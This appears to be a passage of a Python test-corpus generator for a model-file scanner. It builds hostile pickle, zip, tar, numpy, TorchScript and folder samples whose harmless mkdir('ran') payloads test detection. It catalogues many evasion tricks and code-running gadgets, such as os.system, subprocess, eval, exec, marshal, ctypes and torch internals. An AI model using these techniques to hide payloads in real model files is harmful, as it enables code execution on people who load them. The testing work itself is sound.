        "sizes follow": zipped(member("archive/data.pkl", HOSTILE, flags=8), version), "UTF-8 by its flags": zipped(member("archive/data.pkl", HOSTILE, flags=0x800), version),
        "another local name": zipped(member("archive/data.pkl", HOSTILE, local=b"archive/data/0"), version),
        "another local name of a harmless one": zipped(member("archive/data.pkl", HOSTILE, local=b"archive/readme.txt"), member("archive/x", HARMLESS, local=b"archive/data.pkl"), version),
        "another name only in the directory": zipped(benign, member("archive/x", HOSTILE, local=b"archive/data.pkl"), version),
        "a comment": zipped(hostile, version, comment=b"PK\5\6" + b"x" * 30), "zip64": zipped(hostile, version, wide=True),
        "zip64 members": zipped(member("archive/data.pkl", HOSTILE, wide=True), version), "zip64, another directory in 32 bits": zipped(hostile, version, wide=True, narrow=[benign, version]),
        "32 bits, another directory in zip64": zipped(benign, version, wide=True, narrow=[hostile, version]),
        "data after it": zipped(hostile, version, tail=b"x" * 50), "a comment that lies": zipped(hostile, version, comment_size=500),
        "another zip in its comment": zipped(benign, version, comment=zipped(hostile, version), comment_size=0),
        "another zip after it": zipped(benign, version) + zipped(hostile, version), "another zip before it": zipped(hostile, version) + zipped(benign, version),
        "another zip after it, moved": shifted(zipped(benign, version), zipped), "a pickle before it": HOSTILE + zipped(benign, version),
        "a pickle before it, moved": zipped(benign, version, prefix=HOSTILE), "a harmless pickle, then a zip": HARMLESS + zipped(hostile, version),
        "a legacy file before it": legacy(value=HOSTILE) + zipped(benign, version), "more members than it says": one_fewer(zipped(benign, hostile, version)),
        "a folder's name": zipped(member("archive/data.pkl/", HOSTILE), version), "a NUL in the name": zipped(member(b"archive/data.pkl\0x", HOSTILE), version),
    }  # fmt: skip
    found["two roots, the directory in another order"] = zipped(
        member("archive/data.pkl", HARMLESS), version, member("x/data.pkl", HOSTILE), member("x/version", b"3\n"), order=[2, 3, 0, 1])
    found["the directory backwards"] = zipped(benign, version, member("archive/DATA.PKL", HOSTILE), order=[2, 1, 0])
    for path in ("evil.p", "config", "constants.pkl", "weights.pickle", "data.pkl.bak", "extra/model.bin", "code/x.pkl", "byteorder",
                 ".format_version", ".storage_alignment", "version", ".data/x", "data.pkl ", "attributes.pkl", "tensors"):  # fmt: skip
        data = HOSTILE
        others = [one for one in (benign, version) if one[0] != path]
        found[f"member {path}"] = zipped(*others, (path, data))
    found["a nested zip"] = zipped(benign, version, ("inner.zip", zipped(hostile, version)))
    found["a nested checkpoint"] = zipped(benign, version, ("model.pt", checkpoint(RUN)))
    found["member of a second pickle"] = zipped(benign, version, ("x", HARMLESS + HOSTILE))
    found["member of a legacy file"] = zipped(benign, version, ("x", legacy(value=HOSTILE)))
    found["member of a tar"] = zipped(benign, version, ("x", torch_tar(value=HOSTILE)))
    found["storage that is in no state"] = zipped(benign, version, ("data/0", HOSTILE))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("archive/data.pkl", HOSTILE)
        archive.writestr("archive/version", b"3\n")
    found["bzip2"] = buffer.getvalue()
    return found


def shifted(first, writer):
    """A second zip after a first, with its places counted from the file's beginning."""
    return writer(("data.pkl", HOSTILE), ("version", b"3\n"), prefix=first)


def one_fewer(data):
    """A zip whose end says one member less than its directory has."""
    at = data.rindex(b"PK\5\6")
    count = struct.unpack_from("<H", data, at + 8)[0] - 1
    return data[: at + 8] + struct.pack("<HH", count, count) + data[at + 12:]


@kind("tars")
def tars():
    info = (b"sys_info", pickled(dictionary(little_endian=b"\x88")))
    storages, tensors = (b"storages", pickled(b"K\0") + pickled(b"]")), (b"tensors", pickled(b"K\0"))
    value = (b"pickle", HARMLESS)
    bad = (b"storages", HOSTILE)
    found = {
        "storages": torch_tar(storages=HOSTILE), "storages, a later pickle": torch_tar(storages=pickled(b"K\0") + HOSTILE),
        "tensors": torch_tar(tensors=HOSTILE), "pickle": torch_tar(value=HOSTILE), "V7": torch_tar(storages=HOSTILE, form=b""),
        "GNU": torch_tar(storages=HOSTILE, form=b"ustar  \0"), "an unknown form": torch_tar(storages=HOSTILE, form=b"unknown"),
        "V7, tensors": torch_tar(tensors=HOSTILE, form=b""), "V7, pickle": torch_tar(value=HOSTILE, form=b""),
        "storages twice, the second hostile": tar(info, storages, tensors, value, bad),
        "storages twice, the first hostile": tar(info, bad, tensors, value, storages),
        "storages first": tar(bad, info, tensors, value), "only storages": tar(bad),
        "a hard link": tar(info, (b"x", HOSTILE), tar_member(b"storages", kind=b"1", link=b"x"), tensors, value),
        "a hard link to what is harmless by name": tar(info, (b"tensors.txt", HOSTILE), tar_member(b"storages", kind=b"1", link=b"tensors.txt"), tensors, value),
        "a symbolic link": tar(info, storages, tensors, (b"x", HOSTILE), tar_member(b"pickle", kind=b"2", link=b"x")),
        "a name in pax": tar(info, pax(path=b"storages"), (b"harmless", HOSTILE), tensors, value),
        "a name in GNU's long form": tar(info, tar_member(b"././@LongLink", b"storages\0", kind=b"L"), (b"harmless", HOSTILE), tensors, value),
        "a size in pax": tar(info, pax(path=b"storages", size=b"%d" % len(HOSTILE)), tar_member(b"harmless", HOSTILE, size=b"00000000000\0"), tensors, value),
        "a size in base 256": tar(info, tar_member(b"storages", HOSTILE, size=b"\x80" + len(HOSTILE).to_bytes(11, "big")), tensors, value),
        "a size with spaces": tar(info, tar_member(b"storages", HOSTILE, size=b"%11o " % len(HOSTILE)), tensors, value),
        "a signed checksum": tar(tar_member(b"\xff\xfe", b"", signed=True), bad, tensors, value),
        "a checksum with spaces": tar(tar_member(b"storages", HOSTILE, checksum=lambda total: b"%7o " % total), tensors, value),
        "a checksum in base 256": tar(tar_member(b"storages", HOSTILE, form=b"", checksum=lambda total: b"\x80" + total.to_bytes(7, "big")), tensors, value),
        "a kind of NUL": tar(tar_member(b"storages", HOSTILE, kind=b"\0"), tensors, value), "a kind that is unknown": tar(tar_member(b"storages", HOSTILE, kind=b"Z"), tensors, value),
        "a kind for contiguous files": tar(tar_member(b"storages", HOSTILE, kind=b"7"), tensors, value),
        "a global pax header first": tar(tar_member(b"pax", b"13 path=tensr\n"[:0], kind=b"g"), bad, tensors, value),
        "a name in two parts": tar(tar_member(b"storages", HOSTILE, form=b"ustar\x0000"), tensors, value),
        "garbage after storages": torch_tar(storages=HOSTILE)[:-1024] + b"garbage" * 200, "no end": torch_tar(storages=HOSTILE)[:-1024],
        "a first name that is a pickle": tar((b"cposix\nmkdir\n(S'ran'\ntR.", b""), info, storages, tensors, value),
        "a first name that is a pickle, V7": tar((b"cposix\nmkdir\n(S'ran'\ntR.", b""), info, storages, tensors, value, form=b""),
        "a first name that is a second pickle": tar((b"N.cposix\nmkdir\n(S'ran'\ntR.", b""), info, storages, tensors, value),
        "a first name that is nested": tar((load_bytes(HOSTILE) + b".", b""), info, storages, tensors, value),
        "a first name that is a harmless pickle": tar((b"N.", b""), info, bad, tensors, value, form=b""),
        "sound as another first member's data": tar((b"x", HOSTILE), info, storages, tensors, value),
        "names that weight files need": torch_tar(value=pickled(load_bytes(HOSTILE))),
        "a persistent id that is a module": torch_tar(value=pickled(tuple_of(FROM_TYPE + dictionary(dump_patches=b"\x88") + b"b", text("f.py"), text("x")), b"Q")),
        "a tar in a tar": tar((b"x.tar", torch_tar(storages=HOSTILE)), info, storages, tensors, value),
    }  # fmt: skip
    return found


@kind("numpy's files, and numpy's names")
def numpys():
    objects = pickled(RUN)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.npy", npy(objects))
    plain = io.BytesIO()
    numpy.savez(plain, a=numpy.arange(3))
    both = io.BytesIO(plain.getvalue())
    with zipfile.ZipFile(both, "a") as archive:
        archive.writestr("b.npy", npy(objects))
    deflated = io.BytesIO()
    with zipfile.ZipFile(deflated, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", npy(objects))
    dtype = call(name("numpy", "dtype"), text("O"))
    array = call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"K\0\x85", raw(b"b"))
    return {
        ".npy": npy(objects), ".npy of objects with fields": npy(objects, descr="|O8"),
        ".npy, second version": b"\x93NUMPY\x02\0" + struct.pack("<I", 118) + npy(objects)[10:],
        ".npy, names that weight files need": npy(pickled(load_bytes(HOSTILE))), ".npy, Fortran's order": npy(objects).replace(b"False", b"True "),
        ".npz": buffer.getvalue(), ".npz beside a good array": both.getvalue(), ".npz, deflated, another name": deflated.getvalue(),
        "a pickle called .npy": HOSTILE,
        "an array of objects": checkpoint(array, tuple_of(b"K\1", b"K\1\x85", dtype, b"\x89", b"]" + RUN + b"a"), b"b"),
        "a scalar of objects": checkpoint(call(name("numpy.core.multiarray", "scalar"), dtype, RUN)),
        "another class to reconstruct": checkpoint(call(name("numpy.core.multiarray", "_reconstruct"), RUN, b"K\0\x85", raw(b"b"))),
        "numpy's runstring": checkpoint(call(name("numpy.testing._private.utils", "runstring"), text("__import__('posix').mkdir('ran')"), b"}")),
        "f2py": checkpoint(call(name("numpy.f2py.crackfortran", "myeval"), text("__import__('posix').mkdir('ran')"))),
        "f2py's getlincoef": checkpoint(call(name("numpy.f2py.crackfortran", "getlincoef"), text("__import__('posix').mkdir('ran')"), b"}")),
    }  # fmt: skip


@kind("folders")
def folders():
    good = safetensors()
    config = json_of(model_type="llama")
    base = {"model.safetensors": good, "config.json": config}
    found = {}
    for path in ("weights.data", "model.bak", "model", "sub/pytorch_model.bin", "sub/sub/deep.pkl", ".cache/x.pt", ".hidden", "training_args.bin",
                 "optimizer.pt", "rng_state.pth", "scheduler.pt", "scaler.pt", "global_step1/mp_rank_00_model_states.pt", "tokenizer.pkl",
                 "README.md", "notes.txt", "config.yaml", "model.safetensors.bak", "vocab.txt", "image.png", "adapter_model.bin",
                 "original/consolidated.00.pth", "1_Pooling/pytorch_model.bin", "model.ckpt", "flax_model.msgpack", "tokenizer.model"):  # fmt: skip
        found[path] = base | {path: HOSTILE}
    found["a name in an index"] = {
        "pytorch_model.bin.index.json": json_of(weight_map={"a": "other.weights"}), "other.weights": HOSTILE, "config.json": config}
    found["a name in an index, in a subfolder"] = {
        "pytorch_model.bin.index.json": json_of(weight_map={"a": "x/y.bin"}), "x/y.bin": HOSTILE, "config.json": config}
    found["a checkpoint in a subfolder"] = base | {"checkpoint-500/pytorch_model.bin": checkpoint(RUN)}
    found["names that weight files need, in a subfolder"] = base | {"checkpoint-500/optimizer.pt": checkpoint(load_bytes(HOSTILE))}
    found["one of many shards"] = {f"pytorch_model-0000{number}-of-00005.bin": checkpoint(RUN if number == 4 else b"}") for number in range(1, 6)} | {
        "pytorch_model.bin.index.json": json_of(weight_map={f"{number}": f"pytorch_model-0000{number}-of-00005.bin" for number in range(1, 6)})}
    found["only the hostile file"] = {"model.bin": HOSTILE}
    found["a .npz beside"] = base | {"stats.npz": numpys_npz()}
    found["in the sixtieth folder"] = base | {"/".join(["d"] * 60) + "/x.bin": HOSTILE}
    found["one of many files"] = base | {f"texts/{number}.txt": b"a text\n" for number in range(300)} | {"texts/150.dat": HOSTILE}
    for path in ("a\nb.bin", "-x.bin", " .bin", "\u6a21\u578b.bin", "a%20b", "CON", "x.safetensors", "x.json", "x.gguf", "x.index.json", "x.npy"):
        found[f"a file called {path!r}"] = base | {path: HOSTILE}
    found["behind a symbolic link"] = base | {"model.bin": ("link", "elsewhere/evil.bin"), "elsewhere/evil.bin": HOSTILE}
    found["behind a link out of the folder"] = base | {"model.bin": ("link", "../outside.bin"), "../outside.bin": HOSTILE}
    found["a folder behind a link"] = base | {"more": ("link", "../outside"), "../outside/x.bin": HOSTILE}
    return found


def numpys_npz():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.npy", npy(HOSTILE))
    return buffer.getvalue()


def safetensors():
    head = b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    return struct.pack("<Q", len(head)) + head + bytes(8)


class Script(torch.nn.Module):
    """TorchScript runs __setstate__ when it is loaded; here it makes the file `ran` by mapping it."""

    def __init__(self):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.ones(2))

    def forward(self, x: torch.Tensor):
        return x

    @torch.jit.export
    def __getstate__(self):
        return self.weight

    @torch.jit.export
    def __setstate__(self, state: torch.Tensor) -> None:
        self.weight = state + torch.from_file("ran", True, 2)
        self.training = False


@kind("programs: TorchScript, and compressed files that loaders take")
def programs():
    found = {
        "gzip": gzip.compress(HOSTILE), "bzip2": bz2.compress(HOSTILE), "xz": lzma.compress(HOSTILE), "zlib": zlib.compress(HOSTILE),
        "lzma": lzma.compress(HOSTILE, lzma.FORMAT_ALONE), "gzip of a harmless pickle, then a hostile": gzip.compress(HARMLESS + HOSTILE),
    }  # fmt: skip
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(Script()), buffer)
    found["TorchScript"] = buffer.getvalue()
    found["TorchScript after a prefix"] = b"x" * 64 + buffer.getvalue()
    found["TorchScript after a pickle"] = HARMLESS + buffer.getvalue()
    return found


@kind("public names that run code")
def public():
    """What scanners that list bad names have let through, or list by now."""
    here = text("__import__('posix').mkdir('ran')")
    shell = text("/bin/mkdir ran")
    words = b"](" + text("/bin/mkdir") + RAN + b"e"
    bytecode = raw(marshal.dumps(compile("__import__('posix').mkdir('ran')", "x", "eval")))
    posix = call(name("importlib", "import_module"), text("posix"))
    lazily = call(name("builtins", "map"), MKDIR, b"]" + RAN + b"a")
    stream = call(name("_io", "BytesIO"), raw(HOSTILE))

    def method(module, path, *arguments):
        """A method of a class, of an object made without arguments."""
        return call(stack_name(module, path), call(name(module, path.split(".")[0])), *arguments)

    calls = {
        ("os", "system"): [shell], ("posix", "system"): [shell], ("os", "popen"): [shell], ("subprocess", "Popen"): [words],
        ("subprocess", "getoutput"): [shell], ("builtins", "eval"): [here], ("builtins", "exec"): [here], ("pty", "spawn"): [words],
        ("timeit", "timeit"): [here, text(""), name("timeit", "default_timer"), b"K\1"], ("runpy", "_run_code"): [here, b"}"],
        ("profile", "run"): [here, text("p")], ("cProfile", "run"): [here], ("pickle", "loads"): [raw(HOSTILE)],
        ("_pickle", "loads"): [raw(HOSTILE)], ("pickle", "load"): [stream], ("uuid", "_get_command_stdout"): [text("mkdir"), RAN],
        ("imaplib", "IMAP4_stream"): [shell], ("_osx_support", "_read_output"): [shell],
        ("logging", "FileHandler"): [RAN], ("_io", "FileIO"): [RAN, text("w")], ("builtins", "open"): [RAN, text("w")],
        ("setuptools._distutils.file_util", "write_file"): [RAN, b"]" + text("x") + b"a"], ("os", "makedirs"): [RAN],
        ("shutil", "copytree"): [text("."), RAN], ("torch.utils.collect_env", "run"): [shell], ("pydoc", "pipepager"): [text("x"), shell],
        ("torch.jit.unsupported_tensor_ops", "execWrapper"): [here, b"}", b"}"], ("torch.storage", "_load_from_bytes"): [raw(HOSTILE)],
        ("torch.fx.graph_module", "_forward_from_src"): [text("def forward(): pass\n__import__('posix').mkdir('ran')"), b"}"],
        ("multiprocessing.util", "spawnv_passfds"): [raw(b"/bin/mkdir"), b"](" + raw(b"/bin/mkdir") + raw(b"ran") + b"e", b")"],
        ("functools", "reduce"): [MKDIR, b"]" + RAN + b"aM\xff\1a"],
        ("tempfile", "mkdtemp"): [text(""), text("ran"), text(".")],
    }  # fmt: skip
    found = {".".join(function): pickled(call(name(*function), *arguments), protocol=4) for function, arguments in calls.items()}
    found |= {title: pickled(code, protocol=4) for title, code in {
        "code.InteractiveInterpreter": method("code", "InteractiveInterpreter.runsource", here), "bdb.Bdb": method("bdb", "Bdb.run", here),
        "profile.Profile": method("profile", "Profile.run", here), "trace.Trace": method("trace", "Trace.run", here),
        "pkgutil.resolve_name": call(call(name("pkgutil", "resolve_name"), text("posix:mkdir")), RAN),
        "operator.methodcaller": call(call(name("operator", "methodcaller"), text("mkdir"), RAN), posix),
        "operator.attrgetter": call(call(call(name("operator", "attrgetter"), text("mkdir")), posix), RAN),
        "builtins.getattr": call(call(name("builtins", "getattr"), call(name("builtins", "__import__"), text("posix")), text("mkdir")), RAN),
        "functools.partial": call(call(name("functools", "partial"), MKDIR, RAN)),
        "marshal and FunctionType": call(call(name("types", "FunctionType"), call(name("marshal", "loads"), bytecode), b"}")),
        "marshal and exec": call(name("builtins", "exec"), call(name("marshal", "loads"), bytecode)),
        "compile and exec": call(name("builtins", "exec"), call(name("builtins", "compile"), here, text("x"), text("exec"))),
        "pathlib.Path.touch": call(stack_name("pathlib", "Path.touch"), call(name("pathlib", "Path"), RAN)),
        "ctypes": call(call(name("builtins", "getattr"), call(name("ctypes", "CDLL"), b"N"), text("mkdir")), raw(b"ran\0"), b"M\xff\1"),
        "numpy.__builtins__ and dict.get": call(call(stack_name("builtins", "dict.get"), name("numpy", "__builtins__"), text("exec")), here),
        "BUILD replaces a function's attributes": name("numpy", "prod") + stack_name("torch._utils", "sys.modules") + b"b0"
        + call(stack_name("numpy", "prod.posix.mkdir"), RAN),
        "__setstate__ of a namespace": name("types", "SimpleNamespace") + b")R" + dictionary(__setstate__=name("os", "system")) + b"b" + shell + b"b",
        "a module written over": name("sys", "modules") + text("math") + posix + b"s0" + call(name("math", "mkdir"), RAN),
        "map and list": call(name("builtins", "list"), lazily), "map and next": call(name("builtins", "next"), lazily),
        "map and a tensor's size": call(name("torch", "Size"), lazily), "map and bytes": call(name("builtins", "bytes"), lazily),
        "webbrowser": call(stack_name("webbrowser", "GenericBrowser.open"), call(name("webbrowser", "GenericBrowser"), words), text("x")),
    }.items()}  # fmt: skip
    return found
